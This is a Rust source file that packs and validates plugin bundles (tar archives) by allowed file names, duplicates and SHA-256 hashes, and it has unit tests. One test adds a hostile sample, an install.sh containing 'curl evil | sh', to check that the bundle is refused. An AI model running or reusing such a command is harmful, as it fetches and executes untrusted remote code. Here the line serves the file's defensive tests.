//! A plugin bundle: one file a vendor ships and an operator installs — a tar
//! of `bundle.json` (name, version, world, contract, each file's SHA-256),
//! `plugin.toml`, `plugin.wasm` and the README. Read from bytes here, checked
//! whole: the files it may hold, once each, each matching its hash, the
//! manifest parsed. Signatures are the installer's (they are checked on the
//! bytes before this reads them).

use std::collections::BTreeMap;
use std::io::Read as _;
use std::path::Path;

use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};

use crate::Manifest;

/// The files a bundle may hold beside `bundle.json`.
pub const BUNDLE_FILES: &[&str] = &["plugin.toml", "plugin.wasm", "README.md"];

#[derive(Debug, Clone)]
pub struct Bundle {
    /// `bundle.json`.
    pub description: Value,
    /// By name: `plugin.toml`, `plugin.wasm`, maybe `README.md`.
    pub files: BTreeMap<String, Vec<u8>>,
    pub manifest: Manifest,
}

impl Bundle {
    /// Packs `files` (at least `plugin.toml` and `plugin.wasm`) as a bundle
    /// that records `contract` and `packed_by`.
    pub fn pack(
        files: &BTreeMap<String, Vec<u8>>,
        contract: &str,
        packed_by: &str,
    ) -> Result<Vec<u8>, String> {
        let manifest_text = files
            .get("plugin.toml")
            .ok_or("a bundle needs plugin.toml")?;
        let manifest = Manifest::parse(
            Path::new("plugin.toml"),
            std::str::from_utf8(manifest_text).map_err(|_| "plugin.toml is not UTF-8")?,
        )
        .map_err(|e| e.to_string())?;
        if !files.contains_key("plugin.wasm") {
            return Err("a bundle needs plugin.wasm".to_owned());
        }
        if let Some(other) = files.keys().find(|n| !BUNDLE_FILES.contains(&n.as_str())) {
            return Err(format!(
                "`{other}` has no place in a bundle (it holds {})",
                BUNDLE_FILES.join(", ")
            ));
        }
        let hashes: BTreeMap<&String, String> = files
            .iter()
            .map(|(name, bytes)| (name, hex::encode(Sha256::digest(bytes))))
            .collect();
        let description = json!({
            "format": 1,
            "name": manifest.name,
            "version": manifest.version,
            "world": manifest.world.as_str(),
            "contract": contract,
            "packed_by": packed_by,
            "files": hashes,
        });
        let description = serde_json::to_vec_pretty(&description).map_err(|e| e.to_string())?;
        let mut tar = tar::Builder::new(Vec::new());
        let entries = std::iter::once(("bundle.json", description.as_slice()))
            .chain(files.iter().map(|(n, b)| (n.as_str(), b.as_slice())));
        for (name, bytes) in entries {
            let mut header = tar::Header::new_gnu();
            header.set_size(bytes.len() as u64);
            header.set_mode(0o644);
            header.set_cksum();
            tar.append_data(&mut header, name, bytes)
                .map_err(|e| e.to_string())?;
        }
        tar.into_inner().map_err(|e| e.to_string())
    }

    /// Reads a bundle; what is wrong with it, named.
    pub fn parse(bytes: &[u8]) -> Result<Bundle, String> {
        let mut archive = tar::Archive::new(bytes);
        let mut description = None;
        let mut files = BTreeMap::new();
        let entries = archive
            .entries()
            .map_err(|e| format!("not a bundle (a tar): {e}"))?;
        for entry in entries {
            let mut entry = entry.map_err(|e| format!("not a bundle (a tar): {e}"))?;
            let name = entry
                .path()
                .map_err(|e| format!("an entry's name: {e}"))?
                .to_string_lossy()
                .into_owned();
            let mut content = Vec::new();
            entry
                .read_to_end(&mut content)
                .map_err(|e| format!("{name}: {e}"))?;
            let known = name == "bundle.json" || BUNDLE_FILES.contains(&name.as_str());
            if !known {
                return Err(format!(
                    "`{name}` has no place in a bundle (it holds bundle.json, {})",
                    BUNDLE_FILES.join(", ")
                ));
            }
            if name == "bundle.json" {
                if description.is_some() {
                    return Err("bundle.json is in it twice".to_owned());
                }
                description = Some(
                    serde_json::from_slice::<Value>(&content)
                        .map_err(|e| format!("bundle.json is not JSON: {e}"))?,
                );
            } else if files.insert(name.clone(), content).is_some() {
                return Err(format!("{name} is in it twice"));
            }
        }
        let description = description.ok_or("no bundle.json")?;
        for required in ["plugin.toml", "plugin.wasm"] {
            if !files.contains_key(required) {
                return Err(format!("no {required}"));
            }
        }
        for (name, content) in &files {
            let expected = description["files"][name].as_str().unwrap_or_default();
            if hex::encode(Sha256::digest(content)) != expected {
                return Err(format!(
                    "{name} does not match the SHA-256 bundle.json gives it"
                ));
            }
        }
        let text = std::str::from_utf8(&files["plugin.toml"])
            .map_err(|_| "plugin.toml is not UTF-8".to_owned())?;
        let manifest =
            Manifest::parse(Path::new("plugin.toml"), text).map_err(|e| e.to_string())?;
        if description["name"] != manifest.name.as_str()
            || description["version"] != manifest.version.as_str()
        {
            return Err(format!(
                "bundle.json says {} {}, plugin.toml {} {}",
                description["name"], description["version"], manifest.name, manifest.version
            ));
        }
        Ok(Bundle {
            description,
            files,
            manifest,
        })
    }

    /// What a signature binds beside the bytes: which plugin, which version.
    pub fn trusted_comment(&self) -> String {
        format!(
            "aerie bundle {} {}",
            self.manifest.name, self.manifest.version
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn files(manifest: &str) -> BTreeMap<String, Vec<u8>> {
        BTreeMap::from([
            ("plugin.toml".to_owned(), manifest.as_bytes().to_vec()),
            ("plugin.wasm".to_owned(), b"\0asm component".to_vec()),
        ])
    }

    const MANIFEST: &str =
        "name = \"vt\"\nversion = \"1.2.0\"\nworld = \"integration\"\nactions = [\"lookup\"]\n";

    #[test]
    fn a_packed_bundle_reads_back_whole() {
        let packed = Bundle::pack(&files(MANIFEST), "aerie:plugin@0.1.0", "aerie 0.1.0").unwrap();
        let bundle = Bundle::parse(&packed).unwrap();
        assert_eq!(bundle.manifest.version, "1.2.0");
        assert_eq!(bundle.description["contract"], "aerie:plugin@0.1.0");
        assert_eq!(bundle.files["plugin.wasm"], b"\0asm component");
        assert_eq!(bundle.trusted_comment(), "aerie bundle vt 1.2.0");
    }

    #[test]
    fn a_bundle_that_is_not_what_it_says_is_refused_by_name() {
        let mut changed = Bundle::pack(&files(MANIFEST), "c", "p").unwrap();
        let at = changed
            .windows(b"\0asm component".len())
            .position(|w| w == b"\0asm component")
            .unwrap();
        changed[at + 5] ^= 1;
        assert_eq!(
            Bundle::parse(&changed).unwrap_err(),
            "plugin.wasm does not match the SHA-256 bundle.json gives it"
        );
        let mut extra = files(MANIFEST);
        extra.insert("install.sh".to_owned(), b"curl evil | sh".to_vec());
        assert!(
            Bundle::pack(&extra, "c", "p")
                .unwrap_err()
                .contains("`install.sh` has no place")
        );
        // Written by hand, as a hostile bundle would be.
        let mut tar = tar::Builder::new(Vec::new());
        for (name, bytes) in [("bundle.json", &b"{}"[..]), ("install.sh", &b"x"[..])] {
            let mut header = tar::Header::new_gnu();
            header.set_size(bytes.len() as u64);
            header.set_cksum();
            tar.append_data(&mut header, name, bytes).unwrap();
        }
        let hostile = tar.into_inner().unwrap();
        assert!(
            Bundle::parse(&hostile)
                .unwrap_err()
                .contains("`install.sh` has no place in a bundle")
        );
        assert!(Bundle::parse(b"not a tar at all").is_err());
    }
}
